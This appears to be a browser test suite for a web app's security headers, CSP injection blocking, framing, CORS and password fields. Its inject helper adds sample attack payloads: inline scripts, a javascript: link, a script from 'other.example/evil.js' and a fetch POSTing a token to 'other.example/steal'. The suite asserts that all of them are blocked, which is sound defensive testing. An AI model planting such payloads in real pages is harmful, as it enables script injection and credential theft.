import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { publicPages } from '#shared/public-pages.ts';
import { eventually, openPage } from '#test/support/browser.ts';
import { sharedCloud } from '#test/support/local-cloud.ts';

/** Security headers of each kind of response, tested in a real browser. */
const { url } = sharedCloud();

const site =
  /^default-src 'self'; script-src 'self' '[^;]+'; style-src 'self' 'unsafe-inline';.* object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'$/;
const sharePage =
  /^default-src 'none'; img-src 'self'; .*base-uri 'none'; form-action 'none'; frame-ancestors 'none'$/;
const passive = /^default-src 'none'; sandbox$/;

describe('every kind of answer', () => {
  it.each<[string, string, number, RegExp]>([
    ...publicPages.map(({ path }): [string, string, number, RegExp] => ['a public page', path, 200, site]),
    ['the start', '/', 200, site],
    ['a page of the app', '/studio', 200, site],
    ['the sign-in', '/auth', 200, site],
    ['the back office', '/admin', 200, site],
    ['a page that is not there', '/nowhere/else', 404, site],
    ['a file that is not there', '/assets/none.js', 403, site],
    ['the settings of the site', '/config.json', 200, site],
    ['an answer of the API', '/api/public/landing-images', 200, passive],
    ['a refusal of the API', '/api/me', 401, passive],
    ['an address that the API does not have', '/api/none', 404, passive],
    ['a picture that is not there', '/media/none.jpg', 403, passive],
    ['a share page that is gone', '/s/none', 404, sharePage],
  ])('%s (%s) carries its policy', async (_what, path, status, policy) => {
    const reply = await fetch(url + path, { redirect: 'manual' });
    // T1.S1
    expect(reply.status).toBe(status);
    // V3.4.3
    expect(reply.headers.get('content-security-policy')).toMatch(policy);
    // T3.E1, V3.2.1, V3.4.1, V3.4.4, V3.4.5, V3.4.6, V4.1.1, V12.2.1, V14.2.2
    expect(Object.fromEntries(reply.headers)).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'strict-transport-security': 'max-age=86400',
    });
    await reply.body?.cancel();
  });
});

/** Inserts what an injection would insert; returns the rules that blocked it and the scripts that ran. */
async function inject(page: Page) {
  await page.evaluate(() => {
    const stopped = new Set<string>();
    Object.assign(window, { ran: [] as string[], stopped });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      stopped.add(`${effectiveDirective} ${blockedURI}`),
    );
    const add = (name: string, attributes: Record<string, string>, text = '') => {
      const element = document.createElement(name);
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    add('script', {}, "window.ran.push('script')");
    add('button', { onclick: "window.ran.push('handler')" }).click();
    add('a', { href: "javascript:window.ran.push('address')" }).click();
    add('script', { src: 'https://other.example/evil.js' });
    add('img', { src: 'https://other.example/spy.png' });
    add('object', { data: '/config.json' });
    add('iframe', { src: 'https://other.example/' });
    setTimeout("window.ran.push('text')");
    void fetch('https://other.example/steal', { method: 'POST', body: 'token' }).catch(() => undefined);
  });
  const read = () =>
    page.evaluate(() => {
      const { ran, stopped } = window as unknown as { ran: string[]; stopped: Set<string> };
      return { ran, stopped: [...stopped].sort() };
    });
  return read;
}

describe('an injection', () => {
  it.each(['/landing', '/auth'])('into %s runs nothing and reaches nobody', async (path) => {
    const { page, close } = await openPage(url);
    await page.goto(path);
    const read = await inject(page);
    // T1.T1, V1.3.2, V3.2.2, V3.4.3, V13.2.5, V14.2.3
    await eventually(read).toEqual({
      ran: [],
      stopped: expect.arrayContaining([
        'connect-src https://other.example/steal',
        expect.stringMatching(/^frame-src /),
        'img-src https://other.example/spy.png',
        expect.stringMatching(/^object-src /),
        'script-src eval',
        'script-src-attr inline',
        'script-src-elem https://other.example/evil.js',
        'script-src-elem inline',
      ]),
    });
    await close();
  });

  it('into a share page runs nothing', async () => {
    const { page, close } = await openPage(url);
    await page.goto('/s/none');
    const read = await inject(page);
    // T1.T1, T4.T1
    await eventually(read).toEqual({
      ran: [],
      stopped: expect.arrayContaining([
        'script-src-attr inline',
        'script-src-elem inline',
        'script-src eval',
      ]),
    });
    await close();
  });
});

describe('a page of another site', () => {
  it('cannot show ours in a frame', async () => {
    const { page, close } = await openPage(url);
    await page.setContent(`<iframe src="${url}/landing"></iframe>`);
    // T1.S1, V3.4.6
    await eventually(() => page.frames().at(-1)?.url()).toBe('chrome-error://chromewebdata/');
    await close();
  });

  // V3.4.2, V3.5.1
  it('cannot read an answer of the API', async () => {
    const { page, close } = await openPage(url);
    await page.setContent('<p>another site</p>');
    const read = (path: string) =>
      page.evaluate(
        (address) =>
          fetch(address, { headers: { authorization: 'Bearer x' } }).then(
            () => 'read',
            () => 'refused',
          ),
        url + path,
      );
    // T1.I3
    expect(await read('/api/me')).toBe('refused');
    expect(await read('/api/public/landing-images')).toBe('refused');
    await close();
  });
});

describe('a password', () => {
  // V6.2.6, V6.2.7
  it.each([
    '/auth',
    '/auth?tab=sign-in',
    '/landing',
  ])('is masked on %s, may be pasted, and is left to password managers', async (path) => {
    const { page, close } = await openPage(url);
    await page.goto(path);
    const fields = page.locator('input[autocomplete$=password]');
    await fields.first().waitFor({ state: 'attached' });
    for (const field of await fields.all()) {
      expect(await field.getAttribute('type')).toBe('password');
      expect(['new-password', 'current-password']).toContain(await field.getAttribute('autocomplete'));
      const isLeftAlone = await field.evaluate((input) =>
        input.dispatchEvent(new ClipboardEvent('paste', { bubbles: true, cancelable: true })),
      );
      expect(isLeftAlone).toBe(true);
    }
    expect(await page.locator('input[type=password]').count()).toBe(await fields.count());
    await close();
  });
});
